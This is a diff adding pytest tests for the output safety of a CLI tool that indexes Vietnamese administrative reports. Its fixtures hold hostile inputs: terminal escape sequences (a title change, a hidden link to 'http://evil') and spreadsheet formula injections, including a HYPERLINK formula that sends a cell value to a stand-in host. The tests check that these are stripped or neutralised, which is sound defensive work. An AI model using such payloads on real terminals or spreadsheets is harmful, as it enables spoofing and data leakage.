@@ -578,3 +578,156 @@ def test_a_line_of_superscript_digits_is_read(tmp_path, ingest_into):
     assert by_name["mu.txt"].status in ("ingested", "partial"), by_name["mu.txt"]
     text = next(db.query("select text from documents where path like '%mu.txt'"))["text"]
     assert text.count("⁵") >= 500
+
+
+# -- 12. hostile text in outputs ------------------------------------------------------------
+
+MARKUP_REPORT = """BÁO CÁO
+Kết quả công tác năm 2024
+
+I. KẾT QUẢ [/x] ĐẠT ĐƯỢC
+
+1. UBND xã đã tiếp nhận 1.250 hồ sơ [xem phụ lục 1], giải quyết đúng hạn 1.200/1.250 hồ sơ, đạt 96%.
+
+2. Đề nghị Sở Nội vụ xem xét [/x] hồ sơ [bold]tồn đọng[/bold] của xã.
+
+3. Kiến nghị UBND huyện: =HYPERLINK("http://x.example/?q="&A1) bổ sung kinh phí.
+
+II. =HYPERLINK("HTTP://X.EXAMPLE") KIẾN NGHỊ
+
+1. @SUM(1+1) Đề nghị UBND huyện bổ sung kinh phí cho xã.
+"""
+
+
+@pytest.fixture
+def hostile_db(tmp_path, ingest_into):
+    folder = tmp_path / "in [red]x"
+    folder.mkdir()
+    (folder / "bc [bold]x.txt").write_text(MARKUP_REPORT, encoding="utf-8")
+    summary, _ = ingest_into(folder)
+    assert summary.outcomes[0].status == "ingested", summary.outcomes[0]
+    db_path = tmp_path / "corpus.db"
+    # an extractor that lets escape sequences through (a PDF's ToUnicode map can): the
+    # output layer must not pass them to the terminal
+    conn = sqlite3.connect(db_path)
+    conn.execute("update sections set heading = heading || ?", ["\x1b[31m ĐỎ \x1b[0m\x1b]0;pwned\x07"])
+    conn.execute("update documents set title = ?", ["Tiêu đề \x1b]8;;http://evil\x1b\\bấm\x1b]8;;\x1b\\ \x9b2J"])
+    conn.execute("update findings set text = text || ?", ["\x1b[2J\x1b[H"])
+    conn.commit()
+    conn.close()
+    return db_path, folder
+
+
+def _run(capsys, *argv):
+    code = cli.main(list(argv))
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def test_markup_in_text_paths_and_queries_is_printed_as_is(hostile_db, capsys, monkeypatch):
+    monkeypatch.setenv("COLUMNS", "400")  # one line per row
+    db_path, folder = hostile_db
+    db = str(db_path)
+    code, out, err = _run(capsys, "search", "phụ lục", "--db", db)
+    assert code == 0 and "[xem phụ lục" in out, out
+    code, out, err = _run(capsys, "search", "[/x]", "--db", db)
+    assert "Traceback" not in err and "MarkupError" not in err and code in (0, 1)
+    assert "search: [/x]" in out
+    code, out, err = _run(capsys, "findings", "--db", db)
+    assert code == 0 and "[bold]tồn đọng[/bold]" in out and "KẾT QUẢ [/x] ĐẠT" in out
+    code, out, err = _run(capsys, "findings", "[/x]", "--db", db)
+    assert code == 1 and "no document matches '[/x]'" in err and "Traceback" not in err
+    code, out, err = _run(capsys, "ingest", str(folder), "--db", db, "-q")
+    assert code == 0 and "Traceback" not in err
+    (folder / "rong [red].txt").write_bytes(b"")
+    code, out, err = _run(capsys, "ingest", str(folder), "--db", db, "-q")
+    assert code == 2 and "rong [red].txt: empty file" in out and "in [red]x" in out
+
+
+def test_terminal_escapes_are_stripped_on_output(hostile_db, capsys):
+    db_path, _ = hostile_db
+    db = str(db_path)
+    for argv in (["show", "1"], ["findings"], ["search", "hồ sơ"], ["audit", "--all"],
+                 ["figures"], ["cites", "1"], ["show", "1", "--format", "json"]):
+        code, out, err = _run(capsys, *argv, "--db", db)
+        assert "Traceback" not in err, argv
+        assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out, (argv, out[:300])
+    code, out, err = _run(capsys, "show", "1", "--db", db)
+    assert "ĐỎ" in out and "pwned" not in out and "bấm" in out
+
+
+def test_csv_cells_cannot_start_a_formula(hostile_db, capsys):
+    import csv
+    import io
+
+    db_path, _ = hostile_db
+    code, out, err = _run(capsys, "findings", "--db", str(db_path), "--format", "csv")
+    assert code == 0
+    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
+    assert "'@SUM(1+1) Đề nghị UBND huyện bổ sung kinh phí cho xã." in cells
+    assert '\'=HYPERLINK("HTTP://X.EXAMPLE") KIẾN NGHỊ' in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
+    from pipeline.output import csv_safe
+
+    assert csv_safe('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
+    assert csv_safe("-12,5") == "-12,5" and csv_safe("@SUM(A1)") == "'@SUM(A1)"
+    assert csv_safe("+84 912") == "'+84 912" and csv_safe(-3) == -3
+
+
+def test_bad_arguments_are_messages_not_tracebacks(hostile_db, capsys, tmp_path):
+    db_path, _ = hostile_db
+    db = str(db_path)
+    for argv, needle in ((["show", "²"], "no document matches '²'"),
+                         (["show", ""], "no document given"),
+                         (["show", "%"], "no document matches '%'"),
+                         (["show", "%_%"], "no document matches '%_%'"),
+                         (["show", "99999999999999999999"], "no document matches"),
+                         (["findings", "%"], "no document matches '%'")):
+        code, out, err = _run(capsys, *argv, "--db", db)
+        assert code == 1 and needle in err and "Traceback" not in err, (argv, err)
+    with pytest.raises(SystemExit) as exc:
+        cli.main(["search", "hồ sơ", "--limit", "99999999999999999999", "--db", db])
+    assert exc.value.code == 2
+    assert "expected a whole number" in capsys.readouterr().err
+    # not a database, a read-only database
+    junk = tmp_path / "junk.db"
+    junk.write_bytes(b"\x00garbage" * 500)
+    code, out, err = _run(capsys, "search", "x", "--db", str(junk))
+    assert code == 1 and "not a baocao corpus" in err
+    os.chmod(db_path, 0o444)
+    os.chmod(db_path.parent, 0o555)
+    try:
+        folder = tmp_path / "more"
+        folder.mkdir()
+        (folder / "c.txt").write_text(GOOD_REPORT, encoding="utf-8")
+        code, out, err = _run(capsys, "ingest", str(folder), "--db", db, "-q")
+        assert "Traceback" not in err
+        if os.geteuid() != 0:  # root writes regardless of mode bits
+            assert code == 1 and "readonly" in err
+        code, out, err = _run(capsys, "search", "hồ sơ", "--db", db)
+        assert code == 0 and "Traceback" not in err
+    finally:
+        os.chmod(db_path.parent, 0o755)
+        os.chmod(db_path, 0o644)
+
+
+def test_read_only_database_is_a_message(tmp_path, capsys, ingest_into, monkeypatch):
+    """Root ignores mode bits: a database opened read-only by SQLite itself stands in."""
+    from pipeline import store
+
+    folder = _good_folder(tmp_path)
+    ingest_into(folder)
+    db_path = tmp_path / "corpus.db"
+    real_connect = sqlite3.connect
+
+    def read_only(path, *a, **kw):
+        if str(path) == str(db_path):
+            kw["uri"] = True
+            return real_connect(f"file:{path}?mode=ro", *a, **kw)
+        return real_connect(path, *a, **kw)
+
+    monkeypatch.setattr(store.sqlite3, "connect", read_only)
+    (folder / "moi.txt").write_text(GOOD_REPORT.replace("xã", "phường"), encoding="utf-8")
+    code, out, err = _run(capsys, "ingest", str(folder), "--db", str(db_path), "-q")
+    assert code == 1 and "readonly" in err and "Traceback" not in err
+    assert err.count("\n") == 1
